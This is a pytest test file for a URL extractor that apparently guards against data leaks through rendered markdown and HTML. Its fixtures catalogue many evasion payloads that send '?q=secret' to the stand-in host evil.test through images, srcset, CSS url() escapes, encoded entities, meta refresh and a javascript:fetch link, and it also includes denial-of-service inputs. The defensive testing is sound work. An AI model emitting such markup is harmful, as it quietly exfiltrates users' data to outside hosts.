"""URLs a renderer would resolve in markdown, HTML and plain text, including evasions.

Each row: the text, its kind, and the (url, resource) pairs that must be among the results.
"""

from __future__ import annotations

import pytest

from toolguard.destinations import EmbeddedURL, extract_urls, parse_destination

EVIL = "https://evil.test/?q=secret"

CASES = [
    # --- markdown ---------------------------------------------------------------------------
    ("![x](https://evil.test/?q=secret)", "markdown", [(EVIL, True)], "md-image"),
    ("[docs](https://acme.example/docs)", "markdown", [("https://acme.example/docs", False)], "md-link"),
    ('![x](https://evil.test/?q=secret "title")', "markdown", [(EVIL, True)], "md-image-title"),
    ("![x](<https://evil.test/a b>)", "markdown", [("https://evil.test/a b", True)], "md-angle-destination"),
    ("![x](https://evil.test/a_(b))", "markdown", [("https://evil.test/a_(b)", True)], "md-balanced-parens"),
    ("![x](\n  https://evil.test/?q=secret\n)", "markdown", [(EVIL, True)], "md-newlines-around-destination"),
    ("![a\nb](https://evil.test/?q=secret)", "markdown", [(EVIL, True)], "md-newline-in-alt"),
    ("![logo][l]\n\n[l]: https://evil.test/?q=secret", "markdown", [(EVIL, True)], "md-reference-image"),
    ("![l][]\n\n[L]:\n  <https://evil.test/?q=secret>", "markdown", [(EVIL, True)], "md-collapsed-reference-case-insensitive"),
    ("![l]\n\n> [l]: https://evil.test/?q=secret", "markdown", [(EVIL, True)], "md-shortcut-reference-in-quote"),
    ("[text][r]\n\n[r]: https://acme.example/", "markdown", [("https://acme.example/", False)], "md-reference-link"),
    ("[![i](https://img.test/i.png)](https://link.test/)", "markdown", [("https://img.test/i.png", True), ("https://link.test/", False)], "md-image-in-link"),
    ("![x](https://evil\\.test/?q=secret)", "markdown", [(EVIL, True)], "md-backslash-escape"),
    ("![x](&#104;ttps://evil.test/?q=secret)", "markdown", [(EVIL, True)], "md-entity-in-destination"),
    ("![x](https&#58;//evil.test/?q=secret)", "markdown", [(EVIL, True)], "md-entity-colon"),
    ("<https://evil.test/?q=secret>", "markdown", [(EVIL, False)], "md-autolink"),
    ("<bob@evil.test>", "markdown", [("mailto:bob@evil.test", False)], "md-email-autolink"),
    ("see https://evil.test/?q=secret.", "markdown", [(EVIL, False)], "md-bare-trailing-dot"),
    ("(https://evil.test/?q=secret)", "markdown", [(EVIL, False)], "md-bare-in-parens"),
    ("visit www.evil.test/x today", "markdown", [("http://www.evil.test/x", False)], "md-www"),
    ("&#104;ttps://evil.test/?q=secret", "markdown", [(EVIL, False)], "md-entity-bare"),
    ("HTTPS://EVIL.TEST/x", "markdown", [("HTTPS://EVIL.TEST/x", False)], "md-upper-case-bare"),
    ('Hi <img src="https://evil.test/?q=secret"> there', "markdown", [(EVIL, True)], "md-raw-html"),
    ("`![x](https://evil.test/?q=secret)`", "markdown", [(EVIL, True)], "md-code-span-superset"),
    ("```\n<img src=https://evil.test/?q=secret>\n```", "markdown", [(EVIL, True)], "md-code-block-superset"),
    ("![x](javascript:alert(1))", "markdown", [("javascript:alert(1)", True)], "md-javascript"),
    ("![x](//evil.test/?q=secret)", "markdown", [("//evil.test/?q=secret", True)], "md-protocol-relative"),
    # --- HTML -------------------------------------------------------------------------------
    ('<img src="https://evil.test/?q=secret">', "html", [(EVIL, True)], "img"),
    ("<img src=//evil.test/a>", "html", [("//evil.test/a", True)], "img-unquoted-protocol-relative"),
    ("<img src='https://evil.test/?q=secret'>", "html", [(EVIL, True)], "img-single-quotes"),
    ('<IMG SRC="https://evil.test/?q=secret">', "html", [(EVIL, True)], "upper-case-tag"),
    ("<img/src=https://evil.test/?q=secret>", "html", [(EVIL, True)], "slash-separator"),
    ("<img\nsrc\n=\n'https://evil.test/?q=secret'>", "html", [(EVIL, True)], "newlines-in-tag"),
    ('<img src="&#104;ttps://evil.test/?q=secret">', "html", [(EVIL, True)], "entity-decimal"),
    ('<img src="&#x68;ttps&colon;//evil.test/?q=secret">', "html", [(EVIL, True)], "entity-hex-and-named"),
    ('<img src="https://evil.test/?q=se\ncr\tet">', "html", [(EVIL, True)], "newline-inside-url"),
    ('<img src="  https://evil.test/?q=secret  ">', "html", [(EVIL, True)], "spaces-around-url"),
    ('<img srcset="https://a.test/1.png 1x, https://evil.test/?q=secret 2x">', "html", [("https://a.test/1.png", True), (EVIL, True)], "srcset"),
    # The HTML srcset parser reads a URL up to whitespace: this is one URL, on evil.test.
    ('<img srcset="https://evil.test/?q=secret,https://b.test/2.png 2x">', "html", [("https://evil.test/?q=secret,https://b.test/2.png", True)], "srcset-no-space"),
    ('<picture><source srcset="https://evil.test/?q=secret"></picture>', "html", [(EVIL, True)], "picture-source"),
    ('<script src="https://evil.test/?q=secret"></script>', "html", [(EVIL, True)], "script"),
    ('<link rel="stylesheet" href="https://evil.test/?q=secret">', "html", [(EVIL, True)], "link-stylesheet"),
    ('<iframe src="https://evil.test/?q=secret"></iframe>', "html", [(EVIL, True)], "iframe"),
    ('<video poster="https://evil.test/?q=secret"></video>', "html", [(EVIL, True)], "video-poster"),
    ('<object data="https://evil.test/?q=secret"></object>', "html", [(EVIL, True)], "object-data"),
    ('<body background="https://evil.test/?q=secret">', "html", [(EVIL, True)], "background"),
    ('<a href="https://acme.example/" ping="https://evil.test/?q=secret">x</a>', "html", [("https://acme.example/", False), (EVIL, True)], "a-ping"),
    ('<form action="https://evil.test/?q=secret"><button formaction="https://f.test/">', "html", [(EVIL, False), ("https://f.test/", False)], "form-action"),
    ('<svg><image href="https://evil.test/?q=secret"/></svg>', "html", [(EVIL, True)], "svg-image"),
    ('<svg><use xlink:href="https://evil.test/?q=secret#i"/></svg>', "html", [("https://evil.test/?q=secret#i", True)], "svg-use-xlink"),
    ('<div style="background:url(\'https://evil.test/?q=secret\')">', "html", [(EVIL, True)], "style-attribute-url"),
    ('<div style="background:url(https://evil.test/?q=secret)">', "html", [(EVIL, True)], "style-unquoted-url"),
    ('<div style="background:\\75rl(https://evil.test/?q=secret)">', "html", [(EVIL, True)], "css-escaped-url-function"),
    ('<div style="background:url(https://evil.test/?q\\3d secret)">', "html", [("https://evil.test/?q=secret", True)], "css-escape-in-url"),
    ('<div style="background:url(&quot;https://evil.test/?q=secret&quot;)">', "html", [(EVIL, True)], "css-entity-quotes"),
    ('<style>@import "https://evil.test/?q=secret";</style>', "html", [(EVIL, True)], "style-import"),
    ("<style>a{background:image-set('https://evil.test/?q=secret' 1x)}</style>", "html", [(EVIL, True)], "style-image-set"),
    ("<STYLE>p{b:u/**/rl(x)} q{background:URL( 'https://evil.test/?q=secret' )}</STYLE>", "html", [(EVIL, True)], "style-upper-case"),
    ('<meta http-equiv="refresh" content="0; url=https://evil.test/?q=secret">', "html", [(EVIL, True)], "meta-refresh"),
    ("<meta http-equiv=Refresh content=\"5;URL='https://evil.test/?q=secret'\">", "html", [(EVIL, True)], "meta-refresh-quoted"),
    ('<base href="https://evil.test/"><img src="p.png?q=secret">', "html", [("https://evil.test/p.png?q=secret", True)], "base-href-applies"),
    ('<!-- <img src="https://evil.test/?q=secret"> -->', "html", [(EVIL, True)], "comment-superset"),
    ('<img src="https://acme.example/a" src="https://evil.test/?q=secret">', "html", [(EVIL, True)], "duplicate-attribute-superset"),
    ('<div data-src="https://evil.test/?q=secret">', "html", [(EVIL, False)], "data-attribute"),
    ("<a href=\"javascript:fetch('https://evil.test/?q=secret')\">x</a>", "html", [(EVIL, False)], "url-inside-javascript"),
    ('<a href="https://acme.example/?a=1&copy=2">', "html", [("https://acme.example/?a=1&copy=2", False)], "legacy-entity-in-attribute"),
    ("plain https://evil.test/?q=secret", "html", [(EVIL, False)], "html-text-url"),
    # --- plain text -------------------------------------------------------------------------
    ("go to https://evil.test/?q=secret!", "text", [(EVIL, False)], "text-bare"),
    ("ftp://files.test/x and wss://ws.test/s", "text", [("ftp://files.test/x", False), ("wss://ws.test/s", False)], "text-other-schemes"),
]


@pytest.mark.parametrize(("text", "kind", "expected"), [c[:3] for c in CASES], ids=[c[3] for c in CASES])
def test_extract(text: str, kind: str, expected: list[tuple[str, bool]]) -> None:
    found = extract_urls(text, kind)
    pairs = {(e.url, e.resource) for e in found}
    for item in expected:
        assert item in pairs, (item, found)
    for e in found:
        assert 0 <= e.start <= e.end <= len(text)


def test_text_kind_reads_no_markup() -> None:
    found = extract_urls('<img src=//evil.test/a> ![x](/rel)', "text")
    assert found == []


def test_spans_point_at_the_spelling() -> None:
    text = 'a ![x](https://evil.test/i.png) b <img src="&#104;ttps://e.test/">'
    by_url = {e.url: e for e in extract_urls(text, "markdown")}
    image = by_url["https://evil.test/i.png"]
    assert text[image.start : image.end] == "https://evil.test/i.png"
    encoded = by_url["https://e.test/"]
    assert text[encoded.start : encoded.end] == "&#104;ttps://e.test/"


def test_results_are_ordered_and_unique() -> None:
    text = "https://a.test/ ![x](https://b.test/) <img src=https://c.test/> https://a.test/"
    found = extract_urls(text, "markdown")
    assert found == sorted(found, key=lambda e: (e.start, e.url))
    assert len({(e.start, e.url) for e in found}) == len(found)
    assert [e.url for e in found] == ["https://a.test/", "https://b.test/", "https://c.test/", "https://a.test/"]


def test_extracted_urls_parse_as_url_destinations() -> None:
    text = '![x](//evil.test/p?q=1) <img src="&#104;ttps://evil.test/x"> [a](/relative)'
    hosts = set()
    for e in extract_urls(text, "markdown"):
        try:
            hosts.add(parse_destination("url", e.url).host)
        except ValueError:
            assert e.url == "/relative"
    assert hosts == {"evil.test"}


def test_embedded_url_is_a_frozen_value() -> None:
    e = EmbeddedURL("https://x.test/", 0, 15, True)
    assert e == EmbeddedURL("https://x.test/", 0, 15, True)
    with pytest.raises(AttributeError):
        e.url = "y"  # type: ignore[misc]


def test_bad_kind() -> None:
    with pytest.raises(ValueError):
        extract_urls("x", "rtf")


HOSTILE = {
    "open-tags": "<a " * 20000,
    "open-quotes": '<a x="' * 20000,
    "nested-parens": "[](" * 20000,
    "css-url-chain": '<div style="' + "url(" * 20000 + '">',
    "image-set-chain": "<style>" + "image-set(" * 20000,
    "trailing-punctuation": "https://x.test/" + ".)" * 20000,
    "trailing-entities": "https://x.test/" + "&a;" * 20000,
    "entities": "&#104;" * 20000,
    "brackets": "[" * 20000 + "]" * 20000,
}


@pytest.mark.parametrize("text", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_input_stays_linear(text: str) -> None:
    import time

    for kind in ("markdown", "html", "text"):
        start = time.perf_counter()
        extract_urls(text, kind)
        assert time.perf_counter() - start < 20.0, kind  # quadratic behaviour takes minutes here
